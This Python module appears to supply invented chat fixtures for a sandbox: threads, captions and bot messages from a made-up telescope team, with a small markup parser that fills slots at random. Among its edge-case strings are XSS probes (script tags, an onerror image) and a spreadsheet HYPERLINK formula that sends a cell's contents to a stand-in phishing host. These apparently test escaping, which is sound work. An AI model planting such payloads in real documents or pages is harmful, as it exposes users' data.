"""The sentences that the sandbox's people say: an invented team building a small telescope.

Everybody here is made up. Lines use a little markup (``**bold**``, `` `code` ``, ``[label](url)``) and slots
(``{n}``, ``{part}``, ``{at}``: somebody is mentioned), which `spoken` fills and takes apart.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from random import Random
from typing import Literal

Style = Literal["plain", "bold", "code", "link", "mention"]

# nick, name, cluster of the account (ids differ in length), e-mail ("" is what services sometimes say)
TEAM = (
    ("Nora", "Nora Lindqvist-Abara", "us", "nora@apollo.example"),
    ("Tomasz", "Tomasz Verhoeven", "us", "tomasz@apollo.example"),
    ("Priya", "Priya Raghuvansen", "us", "priya@apollo.example"),
    ("Mateo", "Mateo Ibarrolaz", "us", "mateo@apollo.example"),
    ("Aiko", "Aiko Tanabashi", "us", "aiko@apollo.example"),
    ("Samuel", "Samuel Oyelarun", "us", "samuel@apollo.example"),
    ("Freya", "Freya Halvorskog", "us", "freya@apollo.example"),
    ("Daniel", "Daniel Kowalczin", "us", "daniel@apollo.example"),
    ("Leila", "Leila Mansouran", "us", "leila@apollo.example"),
    ("Jonas", "Jonas Breitenau", "us", "jonas@apollo.example"),
    ("Chidi", "Chidi Nwosu-Parke", "urn:TEAM:us-west-2_r", "chidi@partner.example"),
    ("Inês", "Inês Carvalhosa", "us", ""),
)
LEFT = ("Viktor", "Viktor Selmerud", "us", "viktor@apollo.example")
BOT = ("Apollo CI", "Apollo CI", "us", "apollo-ci@bots.example")

PARTS = (
    "mirror cell",
    "mount",
    "focuser",
    "star tracker",
    "camera board",
    "battery pack",
    "app",
    "guide scope",
    "tripod",
    "dew heater",
)
SITES = (
    "https://wiki.apollo.example/optics",
    "https://issues.apollo.example/browse/AP-{n}",
    "https://files.apollo.example/share?id={n}&view=full",
    "https://www.example.org/night-sky",
)

# A conversation: the line that opens it, then the replies in its thread.
CONVERSATIONS: tuple[tuple[str, ...], ...] = (
    (
        "The {part} prototype {n} is on my desk. Who wants to see it before it goes to the lab?",
        "Me! Give me ten minutes.",
        "Please measure the play first, the last one had {tenth} mm.",
        "{tenth} mm it is. I will shim it.",
        "👍",
    ),
    (
        "{at} did the tracking test finish?",
        "Yes: {n} minutes without losing the star. RMS is {tenth} arc seconds.",
        "That is **twice as good** as last week 🎉",
        "New gears. Samuel gets the cake.",
    ),
    (
        "Agenda for today: 1) {part} 2) field test on {day} 3) who waters the plants",
        "Can we add the supplier call?",
        "Added.",
        "I will be five minutes late.",
    ),
    (
        "Firmware `0.{n}` is tagged. Please flash it and tell me what breaks.",
        "Flashed two boards, both boot.",
        "Mine hangs at `init_{part_code}`. Log follows.",
        "Found it, a missing pull-up. `0.{n}.1` in an hour.",
        "Works now, thanks {at}",
        "✅",
    ),
    (
        "I wrote down what we learned in the field: [field notes]({site})",
        "Very good read, thank you.",
        "Section 3 explains our blur, doesn't it?",
        "It does. Wind under the tripod.",
    ),
    (
        "Clouds until {day}, then clear. Who joins the night shift?",
        "I am in, I bring tea.",
        "In.",
        "Can't, but take the second camera with you.",
    ),
    (
        "Supplier says the {part} is delayed by {n} days 😕",
        "Do we have a second source?",
        "Yes, at {pct} % more.",
        "Order five there, we need them for the demo.",
    ),
    (
        "Users keep asking where the red light mode is. {at} could the button move to the first screen?",
        "It can. Mock-up this afternoon.",
        "Please keep it reachable with gloves on.",
        "Gloves: yes. Mittens: no promises.",
    ),
    (
        "Flat fields from last night are in. Vignetting is {pct} % in the corners.",
        "Expected {pct} %. What changed?",
        "Nothing but the spacer.",
        "Then it is the spacer 🙂",
    ),
    ("Good morning!", "Morning ☀️", "Hej hej"),
    ("Lunch?", "12:15 at the door.", "Coming."),
    ("Who has the {n} mm hex key?", "Third drawer, under the tape."),
    ("Reminder: time sheets.", "Done."),
    (
        "Decision: we ship with the **aluminium** {part}. Reasons in [the record]({site}).",
        "Agreed.",
        "Agreed, and thanks for writing it down.",
    ),
    (
        "The battery lasts {n} hours at -{n10} °C. That is enough for a winter night.",
        "Impressive. With the dew heater on?",
        "Half power. Full power: one hour less.",
    ),
    (
        "{at} the export from the app writes local time. Can we have UTC?",
        "UTC from the next build on.",
        "Thank you, my scripts were an hour off since Sunday.",
    ),
    ("Support had {n} tickets today, {n10} of them about alignment.", "We should film that step."),
    ("<@Apollo CI> rerun the last build please", "Rerun started: build {big}."),
    ("I will be out on {day}, {nick} covers for me.", "Enjoy!"),
    ("Small win: the app starts in {tenth} s now.", "Nice 🚀", "How?", "Lazy loading of the star catalogue."),
)

SMALL_TALK = (
    "ok",
    "Sounds good.",
    "On it.",
    "Thanks!",
    "😂",
    "Let me check.",
    "See you at 3.",
    "Back online.",
    "Can somebody open the lab door?",
    "That was the fire drill, we are back.",
    "{part}: done.",
    "+1",
)
BOT_LINES = (
    "Build {big} passed: {part}",
    "Build {big} **failed**: {part}, see [the log]({site})",
    "Nightly check of the {part}: {pct} % covered",
    "Imported from the old tracker: AP-{big} ({part})",
)
KITCHEN_OLD = (
    "New kitchen, new chat! Please write here when the coffee is out.",
    "Coffee is out.",
    "Bought beans. Who is next?",
    "The dishwasher is a team sport.",
    "Last one locks the window, please.",
    "Happy holidays, everybody!",
)
KITCHEN_NEW = (
    "Does anybody still read this chat?",
    "I do!",
    "Then: there is cake on the second floor.",
    "On my way 🍰",
)
STANDUP = (
    "Yesterday: {part}. Today: {part}. Nothing in my way.",
    "Today: field test. Blocked by clouds.",
    "Yesterday: reviews. Today: more reviews.",
    "Waiting for parts, helping {nick} meanwhile.",
)
DIRECT = (
    "Do you have a minute?",
    "Always.",
    "The budget for the second prototype is approved, tell nobody until {day}.",
    "🤫",
    "Great news, thank you!",
)

# What people say to a photograph, and what they call the file.
CAPTIONS: dict[str, tuple[str, tuple[str, ...]]] = {
    "cat": ("pixel", ("Pixel inspects the packaging.", "Office cat approves.", "Pixel says good night.")),
    "coffee": (
        "bench",
        ("Bench is ready, {n} tests to go.", "First light needs coffee.", "Morning in the lab."),
    ),
    "rocket": (
        "launch",
        ("The launch we watched on {day}.", "Inspiration for the demo.", "Still gives me chills."),
    ),
    "deep-field": (
        "deep-field",
        ("Reference field, stack of {n}.", "Look at the corners.", "This is the goal."),
    ),
    "brick": ("wall-target", ("Sharpness target at {n} m.", "The wall again, new lens.", "Distortion test.")),
    "grass": ("grass-target", ("Colour check on the lawn.", "Daylight test {n}.", "Depth of field test.")),
    "gravel": ("gravel-target", ("Noise test, gain {n}.", "Car park, ISO {big}.", "Texture test.")),
    "clock": ("blur", ("Motion blur at {tenth} s.", "Mount was not locked...", "Vibration test {n}.")),
}
PRAISE = (
    "Wow.",
    "So sharp!",
    "Better than ours 😅",
    "Which exposure?",
    "{n} s, gain {n10}.",
    "Save it for the talk.",
)

LONG_PARAGRAPH = (
    "Field report, part {i}. We set up at dusk on the ridge, two telescopes, one laptop, one brave tripod. "
    "The alignment took four minutes; the manual says two. Wind from the west pushed the tube a third of an "
    "arc minute whenever somebody walked past, so we stopped walking. Seeing was fair, transparency good. "
)
RIGHT_TO_LEFT = "سلام به همه! تلسکوپ آماده است — Apollo 2.1 — شب بخیر 🌙 (תודה רבה)"
LONE_SURROGATE = "My phone cut this rocket in half: \ud83d and went on typing"
HOSTILE = "<script>alert('not today')</script> <img src=x onerror=alert(1)> <!-- is this shown as text?"
FORMULA = '=HYPERLINK("https://phish.example/?" & A1, "total")'
MANY_LINES = "Packing list:\n- telescope\n- tent\n\n\tspare batteries\n- tea\u00a0(two kinds)\u200b"
EMOJI = "🚀🔭✨👩🏽‍🚀🇳🇴"

_MARKUP = re.compile(r"\*\*(.+?)\*\*|`(.+?)`|\[(.+?)\]\((.+?)\)|<@(.+?)>")
_ANYTHING_SPECIAL = re.compile(r"[{}*`\[<]")
_DAYS = ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday")
_PART_CODES = ("gps", "imu", "usb")


def spoken(line: str, random: Random, nicks: Sequence[str]) -> Iterator[tuple[Style, str, str]]:
    """Yield the pieces of `line`, its slots filled at random: style, text, and the address of a link.

    Styles are plain, bold, code, link and mention; of a mention the text is one of `nicks`.
    """
    if not _ANYTHING_SPECIAL.search(line):
        _draw_for_nothing(random, len(nicks))
        if line:
            yield "plain", line, ""
        return
    n = random.randrange(11, 90)
    values = {
        "n": n, "n10": n // 10, "big": n * 37, "tenth": n / 10, "pct": random.randrange(3, 60),
        "part": random.choice(PARTS), "day": random.choice(_DAYS), "nick": random.choice(nicks),
        "at": f"<@{random.choice(nicks)}>",
        "site": random.choice(SITES).format(n=n), "part_code": random.choice(_PART_CODES),
    }  # fmt: skip
    filled, at = line.format(**values), 0
    for match in _MARKUP.finditer(filled):
        if match.start() > at:
            yield "plain", filled[at : match.start()], ""
        bold, code, label, url, nick = match.groups()
        if nick:
            yield "mention", nick, ""
        elif url:
            yield "link", label, url
        else:
            yield ("bold", bold, "") if bold else ("code", code, "")
        at = match.end()
    if at < len(filled):
        yield "plain", filled[at:], ""


def _draw_for_nothing(random: Random, nicks: int) -> None:
    """Draw what `spoken` would put into slots, as `randrange` and `choice` do, ten times as fast.

    A line without slots draws it too: what is written next depends on it.
    """
    for choices in (90 - 11, 60 - 3, len(PARTS), len(_DAYS), nicks, nicks, len(SITES), len(_PART_CODES)):
        bits = choices.bit_length()
        while random.getrandbits(bits) >= choices:
            pass


def whole_text(text: str) -> str:
    """`text` with halves of characters joined, lone ones replaced by U+FFFD."""
    return text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace")
